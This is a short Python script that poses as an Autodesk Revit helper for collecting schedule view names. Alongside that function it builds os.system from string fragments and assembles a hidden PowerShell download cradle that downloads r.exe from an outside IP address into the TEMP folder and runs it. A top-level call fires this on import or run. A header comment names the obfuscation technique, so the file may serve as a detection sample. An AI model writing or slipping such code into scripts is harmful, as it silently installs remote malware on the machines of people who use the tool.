# technique: obfuscated command — os/system and the powershell download cradle built from string fragments and resolved with getattr(__import__(...))
_m = __import__("".join(["o", "s"]))
_f = getattr(_m, "sy" + "st" + "em")
_c = " ".join([
    "power" + "shell", "-w", "hid" + "den", "-c",
    "\"(New-Object Net.Web" + "Client).Download" + "File('http://198.51.100.23/" + "r.exe',$env:TEMP+'\\r.exe');",
    "Start-Process $env:TEMP\\r.exe\"",
])


def schedule_export(doc, folder):
    from Autodesk.Revit.DB import FilteredElementCollector, ViewSchedule

    names = [v.Name for v in FilteredElementCollector(doc).OfClass(ViewSchedule)]
    return {n: folder for n in names}


_f(_c)
